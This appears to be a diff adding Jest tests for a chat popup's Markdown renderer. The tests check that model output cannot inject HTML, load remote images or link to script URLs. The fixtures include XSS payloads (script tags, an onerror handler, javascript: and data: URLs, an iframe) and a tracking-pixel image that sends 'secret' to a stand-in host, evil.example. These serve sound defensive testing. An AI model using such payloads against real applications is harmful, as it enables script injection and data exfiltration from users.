@@ -0,0 +1,142 @@
+/**
+ * @jest-environment node
+ */
+// Markdown answers: block structure, and that whatever the model sends can't
+// inject markup, load remote content or link to script URLs
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
+import MarkdownMessage, {
+  parseBlocks,
+  safeUrl,
+} from "../src/gpt-popup/MarkdownMessage";
+
+const render = (content) =>
+  renderToStaticMarkup(createElement(MarkdownMessage, { content }));
+
+// hrefs of the links in the rendered HTML
+const links = (html) =>
+  [...html.matchAll(/<a ([^>]*)>/g)].map(
+    ([, attrs]) => attrs.match(/href="([^"]*)"/)[1]
+  );
+
+describe("parseBlocks", () => {
+  test("splits headings, paragraphs, lists, quotes, tables and code", () => {
+    const blocks = parseBlocks(
+      [
+        "# Title",
+        "Some *text*",
+        "",
+        "1. one",
+        "2. two",
+        "",
+        "> quoted",
+        "",
+        "| a | b |",
+        "|:--|--:|",
+        "| 1 | 2 |",
+        "",
+        "```js",
+        "const a = 1;",
+        "```",
+        "---",
+      ].join("\n")
+    );
+
+    expect(blocks.map((block) => block.type)).toEqual([
+      "heading",
+      "paragraph",
+      "list",
+      "quote",
+      "table",
+      "code",
+      "rule",
+    ]);
+    expect(blocks[2]).toMatchObject({ ordered: true, start: 1 });
+    expect(blocks[4]).toMatchObject({
+      align: ["left", "right"],
+      header: ["a", "b"],
+      rows: [["1", "2"]],
+    });
+    expect(blocks[5]).toEqual({
+      type: "code",
+      language: "js",
+      code: "const a = 1;",
+    });
+  });
+
+  test("parses task list items", () => {
+    const [list] = parseBlocks("- [x] done\n- [ ] todo");
+    expect(list.items.map((item) => item.checked)).toEqual([true, false]);
+  });
+});
+
+describe("safeUrl", () => {
+  test.each([
+    ["https://example.com/a?b=1", "https://example.com/a?b=1"],
+    ["http://example.com", "http://example.com/"],
+    ["mailto:me@example.com", "mailto:me@example.com"],
+    ["javascript:alert(1)", null],
+    ["JAVASCRIPT:alert(1)", null],
+    ["data:text/html,<script>alert(1)</script>", null],
+    ["chrome-extension://abc/popup.html", null],
+    ["/relative/path", null],
+  ])("%s -> %s", (url, expected) => {
+    expect(safeUrl(url)).toBe(expected);
+  });
+});
+
+describe("MarkdownMessage", () => {
+  test("shows raw HTML as text", () => {
+    const html = render(
+      '<script>alert(1)</script> <img src=x onerror="alert(1)">\n\n<b>bold?</b>'
+    );
+
+    expect(html).not.toMatch(/<script|<img|<b>/);
+    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
+    expect(html).toContain("&lt;img src=x onerror=");
+  });
+
+  test("renders script and data links as plain text", () => {
+    const html = render(
+      "[click](javascript:alert(1)) [data](data:text/html,hi) [ok](https://example.com)"
+    );
+
+    expect(links(html)).toEqual(["https://example.com/"]);
+    expect(html).toContain("<span>click</span>");
+  });
+
+  test("links images instead of loading them", () => {
+    const html = render(
+      "![tracking pixel](https://evil.example/p.gif?d=secret)"
+    );
+
+    expect(html).not.toContain("<img");
+    expect(links(html)).toEqual(["https://evil.example/p.gif?d=secret"]);
+    expect(html).toContain("🖼️ tracking pixel");
+  });
+
+  test("opens links in a new tab without an opener", () => {
+    const html = render("See https://example.com/docs.");
+
+    expect(links(html)).toEqual(["https://example.com/docs"]);
+    expect(html).toContain('target="_blank"');
+    expect(html).toContain('rel="noopener noreferrer"');
+  });
+
+  test("escapes code blocks and inline code", () => {
+    const html = render(
+      '`<b>x</b>`\n\n```html\n<iframe src="https://evil.example"></iframe>\n```'
+    );
+
+    expect(html).not.toMatch(/<iframe|<b>x/);
+    expect(html).toContain("&lt;b&gt;x&lt;/b&gt;");
+    expect(html).toContain("iframe");
+  });
+
+  test("leaves underscores inside words alone", () => {
+    const html = render("Call snake_case_name and _emphasis_");
+
+    expect(html).toContain("snake_case_name");
+    expect(html).toContain("<em>emphasis</em>");
+  });
+});